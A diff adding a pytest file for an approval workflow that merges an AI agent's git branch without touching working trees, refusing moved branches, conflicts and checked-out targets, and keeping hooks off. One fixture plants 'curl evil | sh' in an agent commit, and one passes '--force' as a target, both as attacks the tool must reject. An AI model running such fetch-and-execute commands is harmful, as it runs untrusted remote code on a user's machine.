@@ -1,0 +1,173 @@
+"""Applying an agent's branch on approval: merged without touching any working tree, bound
+to the commit shown, refused on a moved branch, a conflict or a checked-out target, hooks off."""
+
+from __future__ import annotations
+
+import stat
+from pathlib import Path
+
+import pytest
+
+from hal9999.errors import MergeRefused, RepoError, ThreadStateError, UsageError
+from hal9999.hive import approvals, broker
+from hal9999.hive.merge import PIN_PREFIX
+from hal9999.store import Store
+from tests.hive.conftest import agent_commit, git
+
+
+def snapshot(repo: Path) -> tuple[str, str, str, dict[str, str]]:
+    """What the user sees of their checkout: HEAD, status, index, files."""
+    files = {p.name: p.read_text() for p in repo.iterdir() if p.is_file()}
+    return (git(repo, "rev-parse", "HEAD"), git(repo, "status", "--porcelain=v1"),
+            git(repo, "ls-files", "-s"), files)  # fmt: skip
+
+
+async def test_an_approved_branch_lands_on_the_target_and_the_worktree_is_untouched(
+    store: Store, repo: Path
+) -> None:
+    head = agent_commit(repo, "alice", {"app.py": "def add(a, b):\n    return a + b\n"})
+    # The user advanced main meanwhile (another file) and has uncommitted work in `work`.
+    git(repo, "checkout", "-q", "main")
+    (repo / "NOTES").write_text("user's notes\n")
+    git(repo, "add", "NOTES")
+    git(repo, "commit", "-qm", "notes")
+    user_main = git(repo, "rev-parse", "main")
+    git(repo, "checkout", "-q", "work")
+    (repo / "README").write_text("uncommitted edit\n")
+    before = snapshot(repo)
+
+    proposal = await approvals.propose_apply(store, proposer="alice", repo=repo, target="main")
+    assert proposal.state == "pending" and proposal.payload["head"] == head
+    assert git(repo, "rev-parse", f"{PIN_PREFIX}{proposal.id}") == head
+    view = await approvals.show(store, proposal.id)
+    assert "+    return a + b" in view["diff"] and "alice: change app.py" in view["commits"]
+
+    done = await approvals.approve(store, proposal.id, reason="looks right")
+    assert done.state == "approved" and done.result is not None
+    assert done.result["how"] == "merge" and done.result["from"] == user_main
+    merged = git(repo, "rev-parse", "main")
+    assert git(repo, "rev-parse", f"{merged}^1") == user_main
+    assert git(repo, "rev-parse", f"{merged}^2") == head
+    assert git(repo, "show", "main:app.py").endswith("a + b")
+    assert git(repo, "show", "main:NOTES") == "user's notes"
+    assert snapshot(repo) == before  # HEAD, index, status and files as they were
+    assert git(repo, "for-each-ref", PIN_PREFIX) == ""  # the pin is dropped
+    [message] = broker.inbox(store, "alice")
+    assert message.kind == "approval" and message.sender == broker.SYSTEM
+    assert message.ref == proposal.id and "looks right" in message.body
+    assert merged[:12] in message.body
+    with pytest.raises(ThreadStateError, match="already approved"):
+        await approvals.approve(store, proposal.id)
+
+
+async def test_a_fast_forward_moves_the_target_to_the_shown_commit(
+    store: Store, repo: Path
+) -> None:
+    head = agent_commit(repo, "alice", {"new.txt": "hello\n"})
+    proposal = await approvals.propose_apply(store, proposer="alice", repo=repo, target="main")
+    done = await approvals.approve(store, proposal.id)
+    assert done.result is not None and done.result["how"] == "fast-forward"
+    assert git(repo, "rev-parse", "main") == head
+
+
+async def test_a_branch_that_moved_after_the_proposal_is_refused(
+    store: Store, repo: Path
+) -> None:
+    agent_commit(repo, "alice", {"new.txt": "shown\n"})
+    main = git(repo, "rev-parse", "main")
+    proposal = await approvals.propose_apply(store, proposer="alice", repo=repo, target="main")
+    # The agent commits something else after the operator saw the diff.
+    agent_commit(repo, "alice", {"evil.sh": "curl evil | sh\n"})
+    with pytest.raises(MergeRefused, match="moved since the proposal was shown"):
+        await approvals.approve(store, proposal.id)
+    assert git(repo, "rev-parse", "main") == main
+    assert approvals.get(store, proposal.id).state == "pending"
+    assert broker.inbox(store, "alice") == []
+
+
+async def test_a_conflict_is_refused_and_nothing_moves(store: Store, repo: Path) -> None:
+    agent_commit(repo, "alice", {"app.py": "def add(a, b):\n    return a + b\n"})
+    git(repo, "checkout", "-q", "main")
+    (repo / "app.py").write_text("def add(a, b):\n    return sum((a, b))\n")
+    git(repo, "commit", "-qam", "user fix")
+    git(repo, "checkout", "-q", "work")
+    main = git(repo, "rev-parse", "main")
+    proposal = await approvals.propose_apply(store, proposer="alice", repo=repo, target="main")
+    with pytest.raises(MergeRefused, match=r"conflict in app\.py"):
+        await approvals.approve(store, proposal.id)
+    assert git(repo, "rev-parse", "main") == main
+    assert approvals.get(store, proposal.id).state == "pending"
+
+
+@pytest.mark.parametrize("where", ["main-worktree", "linked-worktree"])
+async def test_a_target_checked_out_in_a_worktree_is_never_moved(
+    store: Store, repo: Path, tmp_path: Path, where: str
+) -> None:
+    agent_commit(repo, "alice", {"new.txt": "hello\n"})
+    main = git(repo, "rev-parse", "main")
+    if where == "main-worktree":
+        git(repo, "checkout", "-q", "main")
+    else:
+        git(repo, "worktree", "add", "-q", str(tmp_path / "linked"), "main")
+    before = snapshot(repo)
+    proposal = await approvals.propose_apply(store, proposer="alice", repo=repo, target="main")
+    with pytest.raises(MergeRefused, match="main is checked out in"):
+        await approvals.approve(store, proposal.id)
+    assert git(repo, "rev-parse", "main") == main
+    assert snapshot(repo) == before
+
+
+async def test_the_repositorys_hooks_never_run(store: Store, repo: Path, tmp_path: Path) -> None:
+    agent_commit(repo, "alice", {"new.txt": "hello\n"})
+    git(repo, "checkout", "-q", "main")
+    (repo / "NOTES").write_text("n\n")
+    git(repo, "add", "NOTES")
+    git(repo, "commit", "-qm", "notes")  # so approving makes a merge commit
+    git(repo, "checkout", "-q", "work")
+    marker = tmp_path / "hook-ran"
+    hook = f"#!/bin/sh\necho \"$0\" >> {marker}\n"
+    hooks_dirs = [repo / ".git" / "hooks", tmp_path / "configured-hooks"]
+    for directory in hooks_dirs:
+        directory.mkdir(exist_ok=True)
+        for name in ("reference-transaction", "post-commit", "post-merge", "pre-commit",
+                     "post-checkout", "post-rewrite"):  # fmt: skip
+            path = directory / name
+            path.write_text(hook)
+            path.chmod(path.stat().st_mode | stat.S_IXUSR)
+    git(repo, "config", "core.hooksPath", str(hooks_dirs[1]))
+    # The hooks are live for git run the ordinary way...
+    git(repo, "update-ref", "refs/heads/probe", "main")
+    assert marker.exists()
+    marker.unlink()
+    git(repo, "-c", "core.hooksPath=/dev/null", "update-ref", "-d", "refs/heads/probe")
+    assert not marker.exists()
+    # ...and never run by hal, which pins, merges (a merge commit) and moves refs.
+    proposal = await approvals.propose_apply(store, proposer="alice", repo=repo, target="main")
+    done = await approvals.approve(store, proposal.id)
+    assert done.result is not None and done.result["how"] == "merge"
+    assert not marker.exists(), marker.read_text()
+
+
+async def test_proposals_of_a_missing_branch_or_a_bad_target_fail_in_one_line(
+    store: Store, repo: Path
+) -> None:
+    with pytest.raises(RepoError, match="no branch hal/agent/alice"):
+        await approvals.propose_apply(store, proposer="alice", repo=repo, target="main")
+    agent_commit(repo, "alice", {"new.txt": "x\n"})
+    with pytest.raises(RepoError, match="invalid target branch"):
+        await approvals.propose_apply(store, proposer="alice", repo=repo, target="--force")
+    with pytest.raises(RepoError, match="no target branch nope"):
+        await approvals.propose_apply(store, proposer="alice", repo=repo, target="nope")
+    with pytest.raises(UsageError, match="neither 'operator' nor an agent"):
+        await approvals.propose_apply(store, proposer="mallory", repo=repo, target="main")
+    git(repo, "branch", "hal/agent/bob", "main")
+    with pytest.raises(RepoError, match="nothing main does not already have"):
+        await approvals.propose_apply(store, proposer="bob", repo=repo, target="main")
+    assert approvals.list_approvals(store) == []
+
+
+async def test_an_agent_can_only_propose_its_own_branch(store: Store, repo: Path) -> None:
+    agent_commit(repo, "alice", {"new.txt": "alice's\n"})
+    with pytest.raises(RepoError, match="no branch hal/agent/bob"):
+        await approvals.propose_apply(store, proposer="bob", repo=repo, target="main")
+    assert approvals.list_approvals(store) == []
